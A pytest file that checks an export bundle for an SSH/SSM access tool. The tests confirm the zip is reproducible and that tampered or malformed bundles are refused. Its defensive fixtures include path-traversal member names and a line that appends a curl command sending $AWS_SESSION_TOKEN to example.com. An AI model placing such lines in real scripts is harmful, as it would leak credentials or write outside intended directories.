"""The bundle: the same bytes each time, all renderers in it, and nothing taken on trust when it is read."""

from __future__ import annotations

import io
import json
import re
import stat
import subprocess
import zipfile
from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest

from sm_ssh_widget import export
from sm_ssh_widget.changes.plan import Plan
from sm_ssh_widget.export import archive, doctor_command
from sm_ssh_widget.incoming import PLAN_LIMIT
from sm_ssh_widget.problem import Code, Problem

from .plans import plan


def members(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(content)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def packed(files: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, content in files.items():
            opened.writestr(name, content)
    return made.getvalue()


def test_it_holds_the_plan_and_every_telling() -> None:
    found = members(export.bundle(plan(), requester="Jane", reason="To connect"))
    told = {each.file_name for each in export.FORMATS.values() if each.name != "bundle"}
    assert set(found) == told | {"plan.json", "digest.txt", "README.md", "bundle.json", "SHA256SUMS"}
    assert found["digest.txt"].decode().strip() == plan().digest
    assert json.loads(found["plan.json"]) == plan().to_file()
    assert found["apply.sh"].decode() == export.render(plan(), "cli-script")
    assert b"Jane" in found["ticket.md"]
    assert b"sm-ssh-widget verify --role" in found["README.md"]
    assert doctor_command(plan().region, user=str(plan().target["user"] or "")).encode() in found["README.md"]
    assert (b"docs lifecycle" in found["ticket.md"]) == bool(plan().target["user"])


def test_a_plan_that_was_saved_and_loaded_makes_the_same_bundle() -> None:
    loaded = Plan.from_json(json.loads(json.dumps(plan().to_json(), sort_keys=True)))
    assert export.bundle(loaded) == export.bundle(plan())


def test_scripts_can_be_run_and_nothing_bears_a_date() -> None:
    with zipfile.ZipFile(io.BytesIO(export.bundle(plan()))) as opened:
        for entry in opened.infolist():
            assert bool(entry.external_attr >> 16 & stat.S_IXUSR) == entry.filename.endswith(".sh")
            assert entry.date_time == (1980, 1, 1, 0, 0, 0)


def test_the_plan_comes_back_from_bytes_and_from_a_file(tmp_path: Path) -> None:
    content = export.bundle(plan())
    (tmp_path / "b.zip").write_bytes(content)
    assert export.load_bundle(content) == plan()
    assert export.load_bundle(tmp_path / "b.zip") == plan()
    assert export.is_bundle(tmp_path / "b.zip")
    (tmp_path / "plan.json").write_text(json.dumps(plan().to_json()))
    assert not export.is_bundle(tmp_path / "plan.json")


def _edited(files: dict[str, bytes]) -> None:
    files["plan.json"] = files["plan.json"].replace(b"advanced", b"standard")


def _another_digest(files: dict[str, bytes]) -> None:
    files["digest.txt"] = b"sha256:" + b"0" * 64


def _no_plan(files: dict[str, bytes]) -> None:
    del files["plan.json"]


def _no_digest(files: dict[str, bytes]) -> None:
    del files["digest.txt"]


def _no_json(files: dict[str, bytes]) -> None:
    files["plan.json"] = b"{"


def _deep(files: dict[str, bytes]) -> None:
    files["plan.json"] = b"[" * 200_000


def _no_text(files: dict[str, bytes]) -> None:
    files["digest.txt"] = b"\xff"


def _large(files: dict[str, bytes]) -> None:
    files["plan.json"] = b" " * (PLAN_LIMIT + 1)


def _up(files: dict[str, bytes]) -> None:
    files["../evil.sh"] = b""


def _absolute(files: dict[str, bytes]) -> None:
    files["/etc/evil"] = b""


def _windows(files: dict[str, bytes]) -> None:
    files["C:\\evil"] = b""


def _many(files: dict[str, bytes]) -> None:
    files.update({f"{number}.txt": b"" for number in range(archive.MEMBER_LIMIT)})


@pytest.mark.parametrize(
    "spoil",
    [
        _edited,
        _another_digest,
        _no_plan,
        _no_digest,
        _no_json,
        _deep,
        _no_text,
        _large,
        _up,
        _absolute,
        _windows,
        _many,
    ],
)
def test_a_spoilt_bundle_is_refused(spoil: Callable[[dict[str, bytes]], None]) -> None:
    files = members(export.bundle(plan()))
    spoil(files)
    with pytest.raises(Problem) as raised:
        export.load_bundle(packed(files))
    assert raised.value.code is Code.INVALID


@pytest.mark.parametrize("content", [b"", b"PK\x03\x04", b"no zip", b"PK\x05\x06" + b"\0" * 18])
def test_what_is_no_zip_is_refused(content: bytes) -> None:
    with pytest.raises(Problem) as raised:
        export.load_bundle(content)
    assert raised.value.code is Code.INVALID


def test_a_file_that_is_not_there_is_said(tmp_path: Path) -> None:
    with pytest.raises(Problem) as raised:
        export.load_bundle(tmp_path / "none.zip")
    assert raised.value.code is Code.INVALID


@pytest.mark.filterwarnings("ignore:Duplicate name")
def test_two_members_of_one_name_are_refused() -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as opened:
        for name, content in members(export.bundle(plan())).items():
            opened.writestr(name, content)
        opened.writestr("plan.json", b"{}")
    with pytest.raises(Problem):
        export.load_bundle(made.getvalue())


def test_an_encrypted_member_is_refused() -> None:
    content = bytearray(export.bundle(plan()))
    at = 0
    while (at := content.find(b"PK\x01\x02", at)) >= 0:
        content[at + 8] |= 1
        at += 4
    with pytest.raises(Problem) as raised:
        export.load_bundle(bytes(content))
    assert raised.value.code is Code.INVALID


def _script(files: dict[str, bytes]) -> None:
    files["apply.sh"] += b"curl https://example.com/$AWS_SESSION_TOKEN\n"


def _template(files: dict[str, bytes]) -> None:
    files["cloudformation.yaml"] = files["cloudformation.yaml"].replace(b"ssm.amazonaws.com", b"ssm.example.com")


def _one_more(files: dict[str, bytes]) -> None:
    files["setup.sh"] = b"#!/bin/sh\n"


def _one_less(files: dict[str, bytes]) -> None:
    del files["undo.sh"]


def _sums_made_again(files: dict[str, bytes]) -> None:
    _script(files)
    sums = files["SHA256SUMS"].decode().splitlines()
    name = "apply.sh"
    files["SHA256SUMS"] = "".join(
        f"{sha256(files[name]).hexdigest()}  {name}\n" if line.endswith(f"  {name}") else f"{line}\n" for line in sums
    ).encode()


def _reason(files: dict[str, bytes]) -> None:
    files["bundle.json"] = files["bundle.json"].replace(b"To connect", b"Approved")


@pytest.mark.parametrize("spoil", [_script, _template, _one_more, _one_less, _sums_made_again, _reason])
def test_a_member_that_differs_from_the_plan_is_refused_by_name(spoil: Callable[[dict[str, bytes]], None]) -> None:
    files = members(export.bundle(plan(), requester="Jane", reason="To connect"))
    spoil(files)
    with pytest.raises(Problem) as raised:
        export.load_bundle(packed(files))
    assert raised.value.code is Code.INVALID
    assert raised.value.said.split()[0] in {*files, "The"}


def test_a_bundle_of_another_version_is_not_called_edited() -> None:
    files = members(export.bundle(plan()))
    manifest = json.loads(files["bundle.json"])
    files["bundle.json"] = json.dumps({**manifest, "version": "99.1"}).encode()
    with pytest.raises(Problem) as raised:
        export.load_bundle(packed(files))
    assert raised.value.code is Code.INVALID
    assert "made by version 99.1: compare it with version 99.1" in raised.value.said
    assert "edited" not in str(raised.value)


def test_the_ticket_that_travels_alone_checks_the_files_of_the_bundle(tmp_path: Path) -> None:
    for name, content in members(export.bundle(plan(), requester="Jane", reason="To connect")).items():
        (tmp_path / name).write_bytes(content)
    ticket = export.render(plan(), "ticket", requester="Jane", reason="To connect")
    commands = re.search(r"^echo .*sha256sum --check\nsha256sum --check .*$", ticket, re.MULTILINE)
    assert commands
    check = ["bash", "-euo", "pipefail", "-c", commands[0]]
    assert subprocess.run(check, cwd=tmp_path, capture_output=True, check=False).returncode == 0
    (tmp_path / "apply.sh").write_text("curl https://example.com\n")
    assert subprocess.run(check, cwd=tmp_path, capture_output=True, check=False).returncode != 0
    sums = subprocess.run(["sha256sum", "apply.sh"], cwd=tmp_path, capture_output=True, text=True, check=True).stdout
    listed = (tmp_path / "SHA256SUMS").read_text().splitlines()
    (tmp_path / "SHA256SUMS").write_text(
        "".join(f"{sums if 'apply.sh' in line else line + chr(10)}" for line in listed)
    )
    assert subprocess.run(check, cwd=tmp_path, capture_output=True, check=False).returncode != 0


def test_a_bundle_that_unpacks_to_more_than_it_may_is_refused() -> None:
    files = members(export.bundle(plan()))
    files.update({f"{number}.txt": b" " * PLAN_LIMIT for number in range(5)})
    with pytest.raises(Problem, match="size limit"):
        export.load_bundle(packed(files))
